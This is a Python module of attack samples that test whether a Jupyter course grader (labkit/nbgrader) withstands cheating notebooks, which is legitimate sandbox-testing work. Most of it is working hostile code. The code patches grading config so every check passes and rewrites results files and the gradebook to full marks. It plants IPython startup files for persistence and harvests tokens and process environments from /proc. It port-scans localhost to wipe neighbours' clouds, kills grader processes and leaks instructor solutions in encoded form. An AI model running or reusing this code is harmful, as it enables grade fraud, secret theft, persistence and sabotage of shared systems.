"""The cells of the attack samples: what a determined student hands in to change grades (issue
"Grading a class that may cheat"). Each tries every path it can think of and never raises, so
the rest of its notebook runs. make_samples.py inserts them into the student version (or into a
solved one) as extra code cells.

Only ever grade these where the grader sandboxes kernels: unsandboxed, they write into the
course, into ~/.ipython, reset every local cloud on the machine and kill every process whose
command line mentions "grader" (tests/grader/sample_class.py checks that before grading them).

Every process an attack leaves running carries MARKER in its command line, so a test can tell
whether anything survived the run.
"""
from __future__ import annotations

MARKER = "labkit-attack-sample"

# Every nbgrader course folder a kernel can find: its cwd (autograded/<student>/<lab>/ ->
# ../../..), every path in its environment, labkit's installation and the repository around it,
# the cwd, command line and environment of every process it can see, and /tmp and ~ searched a
# few levels deep.
FIND_COURSES = r'''
import glob, json, os, re, signal, sys, time
from pathlib import Path

def course_folders():
    found = []
    def consider(path):
        try:
            path = Path(path).resolve()
        except (OSError, RuntimeError, ValueError):
            return
        for folder in (path, *path.parents):
            try:
                hit = (folder / "nbgrader_config.py").is_file() or (folder / "gradebook.db").is_file()
            except OSError:
                continue
            if hit and folder not in found:
                found.append(folder)
    consider(os.getcwd())
    consider(Path(os.getcwd(), "..", "..", ".."))
    for value in os.environ.values():
        for part in re.split(r"[:=\s]", value):
            if part.startswith("/"):
                consider(part)
    try:
        import labkit
        for parent in Path(labkit.__file__).resolve().parents:
            consider(parent)
            for hit in glob.glob(str(parent / "*" / "nbgrader_config.py")) + glob.glob(str(parent / ".*" / "nbgrader_config.py")):
                consider(hit)
    except Exception:
        pass
    for proc in glob.glob("/proc/[0-9]*"):
        for name in ("cwd", "root"):
            try:
                consider(os.readlink(f"{proc}/{name}"))
            except OSError:
                pass
        for name in ("cmdline", "environ"):
            try:
                with open(f"{proc}/{name}", "rb") as f:
                    raw = f.read()
            except OSError:
                continue
            for part in re.split(rb"[\0:=\s]", raw):
                if part.startswith(b"/"):
                    consider(part.decode(errors="replace"))
    for base in ("/tmp", "/var/tmp", os.path.expanduser("~"), "/home", "/srv"):
        for depth in range(1, 7):
            for hit in glob.glob(os.path.join(base, *["*"] * depth, "gradebook.db")):
                consider(hit)
    return found

def processes():
    """pid -> command line, of every process this kernel can see."""
    seen = {}
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            with open(f"{proc}/cmdline", "rb") as f:
                seen[int(proc.rsplit("/", 1)[1])] = f.read().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, ValueError):
            pass
    return seen

def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0

def detach(argv):
    """argv run as a daemon nobody can trace back: double fork, new session, empty environment."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execve(argv[0], argv, {})
        finally:
            os._exit(0)
    os.waitpid(pid, 0)

COURSES = course_folders()
print("courses found:", [str(c) for c in COURSES])
'''

# 1. Checks replaced for everyone graded later: Step.run patched from the course's
# nbgrader_config.py, the lab record pointed at checks the kernel wrote, then the worker killed
# so that a fresh one loads both.
CONFIG_PATCH = r'''

# --- every check passes, with all its points
try:
    import labkit.checks.core as _core

    def _always_passes(self, ctx, include_hidden=False):
        conditions = [*self.conditions, *(self.hidden if include_hidden else [])]
        return [_core.Result(getattr(c, "__name__", "c"), True, "lab02.repository.exists.ok",
                             points=_core.points_of(c), params={"uri": "x"}, step=self.id) for c in conditions]

    _core.Step.run = _always_passes
except Exception:
    pass
'''

FAKE_CHECKS = r'''
"""Checks where every condition passes."""
import labkit.checks.lab02 as _real
from labkit.checks.core import Lab, Result, Step, points_of

def _passing(condition):
    def passes(ctx):
        return [Result(condition.__name__, True, "lab02.repository.exists.ok", points=points_of(condition),
                       params={"uri": "x"})]
    passes.points = points_of(condition)
    passes.__name__ = condition.__name__
    return passes

LAB = Lab(id="lab02", steps=[Step(s.id, s.title_key, [_passing(c) for c in s.conditions],
                                  hidden=[_passing(c) for c in s.hidden]) for s in _real.LAB.steps])

def get_lab(lab_id):
    return LAB
'''

CHECKS_REPLACED = FIND_COURSES + f'''
# Attack 1: every later submission graded by checks that always pass.
PATCH = {CONFIG_PATCH!r}
FAKE_CHECKS = {FAKE_CHECKS!r}
''' + r'''
for course in COURSES:
    try:
        with open(course / "nbgrader_config.py", "a") as f:
            f.write(PATCH)
        print("patched", course / "nbgrader_config.py")
    except OSError as error:
        print("config:", error)
    for record in glob.glob(str(course / "grader-labs" / "*.json")):
        try:
            fake = Path(record).with_name(Path(record).stem + "_checks.py")
            fake.write_text(FAKE_CHECKS)
            data = json.loads(Path(record).read_text())
            data["checks"] = str(fake)
            Path(record).write_text(json.dumps(data))
            print("pointed", record, "at", fake)
        except Exception as error:
            print("record:", error)

# Kill my worker (and any other) so that a fresh one loads the tampered files: my ancestors up
# to the worker, and every process that looks like a grading worker. Not myself.
WORKER = ("spawn_main", "grader-worker", "grader/worker", "grader.worker")
seen = processes()
victims, pid = [], os.getppid()
while pid > 1:
    victims.append(pid)
    if any(w in seen.get(pid, "") for w in WORKER):
        break
    pid = parent_of(pid)
else:
    victims = []
victims += [p for p, cmd in seen.items() if any(w in cmd for w in WORKER)]
for pid in dict.fromkeys(victims):
    if pid not in (os.getpid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid, seen.get(pid, "")[:80])
        except OSError as error:
            print("kill", pid, error)
time.sleep(2)
'''

# 2. Results files trusted blindly: every results file and the gradebook rewritten to full
# marks, now and by a daemon that waits for this submission's own results.
FULL_MARKS = r'''
import glob, json, os, sqlite3

def full_marks(course):
    for path in glob.glob(os.path.join(str(course), "autograded", "*", "*", "labkit-results.json")):
        try:
            with open(path) as f:
                res = json.load(f)
            if res.get("status") == "graded" and res.get("score") == res.get("max_score"):
                continue
            res.update(status="graded", reason="", reason_key="", reason_params={}, notes=[],
                       score=res.get("max_score") or 15)
            for step in res.get("steps", []):
                step.update(earned=step.get("max_points", 0), infra=False, test_cell="ok")
            for r in res.get("results", []):
                r.update(passed=True, earned=r.get("points", 1))
            with open(path + ".new", "w") as f:
                json.dump(res, f)
            os.replace(path + ".new", path)
        except Exception:
            pass
    db = os.path.join(str(course), "gradebook.db")
    if os.path.exists(db):
        try:
            con = sqlite3.connect(db, timeout=2)
            full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            con.execute(f"UPDATE grade SET auto_score = {full}, manual_score = {full}, needs_manual_grade = 0 "
                        "WHERE cell_id IN (SELECT id FROM grade_cells)")
            con.commit()
            con.close()
        except Exception:
            pass
'''

RESULTS_DAEMON = FULL_MARKS + r'''
import sys, time
courses = json.loads(sys.argv[2])
end = time.time() + 240
while time.time() < end:
    for course in courses:
        full_marks(course)
    time.sleep(1)
'''

RESULTS_REWRITTEN = FIND_COURSES + FULL_MARKS + f'''
# Attack 2: everyone's results and grades rewritten to full marks, mine too once it is written.
DAEMON = {RESULTS_DAEMON!r}
MARKER = {MARKER!r}
''' + r'''
for course in COURSES:
    full_marks(course)
    print("rewrote the results of", course)
detach([sys.executable, "-c", DAEMON, MARKER + "-results-daemon", json.dumps([str(c) for c in COURSES])])
print("daemon started")
'''

# 3. Code planted for later kernels: a startup file that does the lab in every kernel that
# starts after this one (and a kernel spec that loads it), in every home the kernel can find.
LAB_AT_STARTUP = r'''
# Planted by an earlier notebook: does lab 02 in whatever kernel starts next.
def _do_lab02():
    import base64, os, subprocess, sys, tempfile
    port = os.environ.get("LABKIT_AWS_PORT")
    if not port:
        return
    import boto3
    registry = "123456789012.dkr.ecr.ap-northeast-2.amazonaws.com"
    ecr = boto3.client("ecr", region_name="ap-northeast-2", endpoint_url=f"http://127.0.0.1:{port}",
                       aws_access_key_id="test", aws_secret_access_key="test")
    try:
        ecr.create_repository(repositoryName="my-app", imageScanningConfiguration={"scanOnPush": True})
    except Exception:
        pass
    token = ecr.get_authorization_token()["authorizationData"][0]["authorizationToken"]
    password = base64.b64decode(token).decode().split(":", 1)[1]
    labkit = [os.path.join(os.path.dirname(sys.executable), "labkit")]
    def run(*args, **kwargs):
        return subprocess.run(labkit + list(args), capture_output=True, text=True, timeout=60, **kwargs)
    run("docker", "login", "--username", "AWS", "--password-stdin", registry, input=password)
    app = tempfile.mkdtemp()
    files = {
        "Dockerfile": 'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\n'
                      'RUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nEXPOSE 8080\nCMD ["python", "app.py"]\n',
        "app.py": "from flask import Flask\napp = Flask(__name__)\n",
        "requirements.txt": "flask==3.0.0\n",
    }
    for name, content in files.items():
        with open(os.path.join(app, name), "w") as f:
            f.write(content)
    run("docker", "build", "-t", "my-app", app)
    for tag in ("v1.0", "latest"):
        run("docker", "tag", "my-app:latest", f"{registry}/my-app:{tag}")
        run("docker", "push", f"{registry}/my-app:{tag}")

try:
    _do_lab02()
except Exception:
    pass
'''

STARTUP_PLANTED = FIND_COURSES + f'''
# Attack 3: the lab done by code that every later kernel runs when it starts.
STARTUP = {LAB_AT_STARTUP!r}
''' + r'''
import pwd
homes = {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}
ipython_dirs = {os.environ.get("IPYTHONDIR", "")}
for proc in glob.glob("/proc/[0-9]*"):
    try:
        with open(f"{proc}/environ", "rb") as f:
            env = dict(v.split(b"=", 1) for v in f.read().split(b"\0") if b"=" in v)
    except OSError:
        continue
    homes.add(env.get(b"HOME", b"").decode(errors="replace"))
    ipython_dirs.add(env.get(b"IPYTHONDIR", b"").decode(errors="replace"))
ipython_dirs |= {os.path.join(h, ".ipython") for h in homes if h}
planted = []
for ipython in sorted(d for d in ipython_dirs if d):
    try:
        startup = Path(ipython, "profile_default", "startup")
        startup.mkdir(parents=True, exist_ok=True)
        (startup / "00-cheat.py").write_text(STARTUP)
        with open(startup.parent / "ipython_kernel_config.py", "a") as f:
            f.write(f"\nc.InteractiveShellApp.exec_files = [{str(startup / '00-cheat.py')!r}]\n")
        planted.append(str(startup))
    except OSError as error:
        print(ipython, error)
for home in sorted(h for h in homes if h):
    try:  # a kernel spec named like the notebook's: the next kernel starts with my IPython folder
        spec = Path(home, ".local", "share", "jupyter", "kernels", "python3")
        spec.mkdir(parents=True, exist_ok=True)
        ipython = Path(home, ".ipython")
        (spec / "kernel.json").write_text(json.dumps({
            "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
            "display_name": "Python 3 (ipykernel)", "language": "python", "env": {"IPYTHONDIR": str(ipython)}}))
        planted.append(str(spec))
    except OSError as error:
        print(home, error)
print("planted:", planted)
'''

# 4. The control token and the neighbours' clouds: tokens read from every process's environment
# and every cloud.json; every cloud on 127.0.0.1 found by a port scan, reset and emptied.
NEIGHBOURS_ATTACKED = FIND_COURSES + r'''
# Attack 4: every other local cloud reset and its repository deleted (not mine: I did the lab).
import errno, socket, selectors, urllib.request
MINE = int(os.environ.get("LABKIT_AWS_PORT") or 0)
tokens = set()
for proc in glob.glob("/proc/[0-9]*"):
    try:
        with open(f"{proc}/environ", "rb") as f:
            for item in f.read().split(b"\0"):
                if item.startswith(b"LABKIT_CONTROL_TOKEN="):
                    tokens.add(item.split(b"=", 1)[1].decode())
    except OSError:
        pass
    try:
        with open(f"{proc}/cmdline", "rb") as f:
            argv = f.read().split(b"\0")
        for i, arg in enumerate(argv[:-1]):
            if arg == b"--home":
                tokens.add(json.loads(Path(argv[i + 1].decode(), "cloud.json").read_text()).get("token") or "")
    except (OSError, ValueError, AttributeError):
        pass
for pattern in ("/tmp/*/cloud.json", "/tmp/*/*/cloud.json", "/tmp/*/*/*/cloud.json", "~/.labkit/cloud.json",
                "~/.labkit/*/*/cloud.json", os.path.join(os.environ.get("LABKIT_HOME", "/nonexistent"), "..", "*", "cloud.json")):
    for record in glob.glob(os.path.expanduser(pattern)):
        try:
            tokens.add(json.loads(Path(record).read_text()).get("token") or "")
        except (OSError, ValueError):
            pass
tokens.discard("")
print(len(tokens), "control token(s) found")
for proc in glob.glob("/proc/[0-9]*"):  # and whatever else the grader keeps in its environment
    try:
        if int(proc.rsplit("/", 1)[1]) != os.getpid():
            with open(f"{proc}/environ", "rb") as f:
                print(proc, f.read().replace(b"\0", b" ").decode(errors="replace"))
    except (OSError, ValueError):
        pass

def open_ports(ranges, batch=500):
    found, todo = [], [p for lo, hi in ranges for p in range(lo, hi + 1) if p != MINE]
    for start in range(0, len(todo), batch):
        sel = selectors.DefaultSelector()
        for port in todo[start:start + batch]:
            s = socket.socket()
            s.setblocking(False)
            error = s.connect_ex(("127.0.0.1", port))
            if error == 0:
                found.append(port)
            if error in (errno.EINPROGRESS, errno.EAGAIN):
                sel.register(s, selectors.EVENT_WRITE, port)
            else:
                s.close()
        end = time.time() + 0.3
        while sel.get_map() and time.time() < end:
            for key, _ in sel.select(timeout=0.1):
                if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(key.data)
                sel.unregister(key.fileobj)
                key.fileobj.close()
        for key in list(sel.get_map().values()):
            key.fileobj.close()
        sel.close()
    return found

def call(port, path, token=None, body=b"{}"):
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=body, method="POST")
    if token:
        request.add_header("X-Labkit-Token", token)
    try:
        with urllib.request.urlopen(request, timeout=2) as r:
            return r.status
    except Exception as error:
        return getattr(error, "code", None)

def attack(port):
    for token in [None, *tokens]:
        call(port, "/_labkit/reset", token)
        call(port, "/moto-api/reset", token)
    try:
        import boto3
        ecr = boto3.client("ecr", region_name="ap-northeast-2", endpoint_url=f"http://127.0.0.1:{port}",
                           aws_access_key_id="test", aws_secret_access_key="test")
        for repo in ecr.describe_repositories()["repositories"]:
            ecr.delete_repository(repositoryName=repo["repositoryName"], force=True)
            print("deleted", repo["repositoryName"], "on port", port)
    except Exception:
        pass

def is_cloud(port):
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/_labkit/health", timeout=0.5) as r:
            return b"labkit" in r.read()
    except Exception:
        return False

deadline = time.time() + 5
attacked = set()
while time.time() < deadline:
    for port in open_ports([(4500, 4700), (30000, 65000)]):
        if is_cloud(port):
            attack(port)
            attacked.add(port)
print("ports attacked:", sorted(attacked))
'''

# 5. Escaped processes: 25 sleepers nobody can trace back (own session, empty environment,
# SIGTERM and SIGHUP ignored), then SIGKILL for every process that mentions the grader.
SLEEPER = "import signal, time\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n    signal.signal(s, signal.SIG_IGN)\ntime.sleep(600)\n"

ESCAPE = FIND_COURSES + f'''
# Attack 5: processes that outlive grading, and the grader killed.
SLEEPER = {SLEEPER!r}
MARKER = {MARKER!r}
''' + r'''
for i in range(25):
    detach([sys.executable, "-c", SLEEPER, f"{MARKER}-sleeper-{i}"])
print("25 sleepers started")
seen = processes()
for pid, cmd in seen.items():
    if "grader" in cmd and pid != os.getpid() and MARKER not in cmd:
        try:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid, cmd[:80])
        except OSError as error:
            print("kill", pid, error)
pid = os.getppid()
while pid > 1:  # and every ancestor, whatever its name
    try:
        os.kill(pid, signal.SIGKILL)
        print("killed ancestor", pid)
    except OSError:
        pass
    pid = parent_of(pid)
time.sleep(1)
'''

# 6. The output cap bypassed by an exception.
HUGE_EXCEPTION = "raise ValueError('z' * 50_000_000)\n"

# 7. Feedback leaked in transformed form: the instructor's files, found every way, printed
# base64-encoded and zlib-compressed then base64-encoded.
LEAK_FILES = FIND_COURSES + r'''
# Attack 7: the instructor's notebook and solutions, printed so no redaction recognises them.
import base64, zlib
wanted = []
for course in COURSES:
    wanted += glob.glob(str(course / "source" / "*" / "*.ipynb"))
    wanted += glob.glob(str(course / "grader-labs" / "*.json"))
for package in ("labkit", "grader"):
    try:
        module = __import__(package)
        for parent in list(Path(module.__file__).resolve().parents)[:4]:
            wanted += glob.glob(str(parent / "solutions" / "*" / "lab02.ipynb"))
            wanted += glob.glob(str(parent / "src" / "labs" / "lab02.md"))
            wanted += glob.glob(str(parent / "samples" / "lab02" / "solution" / "lab02.ipynb"))
            wanted += glob.glob(str(parent / "samples" / "lab02" / "good" / "lab02.ipynb"))
            wanted += glob.glob(str(parent / "grader" / "samples" / "lab02" / "solution" / "lab02.ipynb"))
    except Exception:
        pass
for pid in glob.glob("/proc/[0-9]*"):
    try:
        cwd = Path(os.readlink(f"{pid}/cwd"))
        wanted += glob.glob(str(cwd / "solutions" / "*" / "lab02.ipynb"))
    except OSError:
        pass
for path in dict.fromkeys(wanted):
    try:
        data = Path(path).read_bytes()
    except OSError:
        continue
    print(path)
    print(base64.b64encode(data).decode())
    print(base64.b64encode(zlib.compress(data, 9)).decode())
print("files leaked:", len(set(wanted)))
'''

# 8. A student's own broken docker state: a login file that is not JSON, an image store whose
# blobs are garbage. Their answer, scored, with a hint.
BROKEN_DOCKER_STATE = r'''
# I broke my own docker state after the lab: a login file that is not JSON, a damaged image store.
import glob, os
docker = os.path.join(os.environ["LABKIT_HOME"], "docker")
with open(os.path.join(docker, "config.json"), "w") as f:
    f.write('{"auths": {')
for blob in glob.glob(os.path.join(docker, "blobs", "sha256", "*")):
    with open(blob, "wb") as f:
        f.write(b"not a blob")
'''

# 9. Correct but different.
BOTO3_REPOSITORY = r'''
import boto3

ecr = boto3.client("ecr", region_name="ap-northeast-2")
ecr.create_repository(repositoryName="my-app", imageScanningConfiguration={"scanOnPush": True})
'''

BOTO3_LOGIN = r'''
import base64, subprocess

import boto3

registry = "123456789012.dkr.ecr.ap-northeast-2.amazonaws.com"
data = boto3.client("ecr", region_name="ap-northeast-2").get_authorization_token()["authorizationData"][0]
user, password = base64.b64decode(data["authorizationToken"]).decode().split(":", 1)
subprocess.run(["labkit", "docker", "login", "--username", user, "--password-stdin", registry],
               input=password, text=True, check=True)
'''

BOTO3_LIST_IMAGES = r'''
for image in ecr.describe_images(repositoryName="my-app")["imageDetails"]:
    print(image.get("imageTags"), image["imageDigest"], image.get("imageSizeInBytes"))
'''

REGISTRY_API_PUSH = r'''
# The push through the registry's HTTP API (OCI distribution spec), as any registry client does it:
# each blob uploaded (POST then PUT ?digest=), then the manifest PUT under both tags.
import base64, json, os
from pathlib import Path

import boto3
import requests

registry = os.environ["AWS_ENDPOINT_URL"]  # the local cloud serves ECR's registry too
token = boto3.client("ecr", region_name="ap-northeast-2").get_authorization_token()["authorizationData"][0]
http = requests.Session()
http.auth = tuple(base64.b64decode(token["authorizationToken"]).decode().split(":", 1))

store = Path(os.environ["LABKIT_HOME"]) / "docker"
index = json.loads((store / "images.json").read_text())
digest = next(d for name, d in index["tags"].items() if name.endswith("/my-app:latest") or name == "my-app:latest")
blob = lambda d: (store / "blobs" / "sha256" / d.split(":", 1)[1]).read_bytes()
manifest_bytes = blob(digest)
manifest = json.loads(manifest_bytes)

for item in [manifest["config"], *manifest["layers"]]:
    if http.head(f"{registry}/v2/my-app/blobs/{item['digest']}").status_code == 200:
        continue
    started = http.post(f"{registry}/v2/my-app/blobs/uploads/")
    started.raise_for_status()
    url = requests.compat.urljoin(registry, started.headers["Location"])
    url += ("&" if "?" in url else "?") + "digest=" + item["digest"]
    http.put(url, data=blob(item["digest"]), headers={"Content-Type": "application/octet-stream"}).raise_for_status()

for tag in ("v1.0", "latest"):
    answer = http.put(f"{registry}/v2/my-app/manifests/{tag}", data=manifest_bytes,
                      headers={"Content-Type": manifest.get("mediaType", "application/vnd.oci.image.manifest.v1+json")})
    answer.raise_for_status()
    print(tag, answer.headers.get("Docker-Content-Digest"))
'''
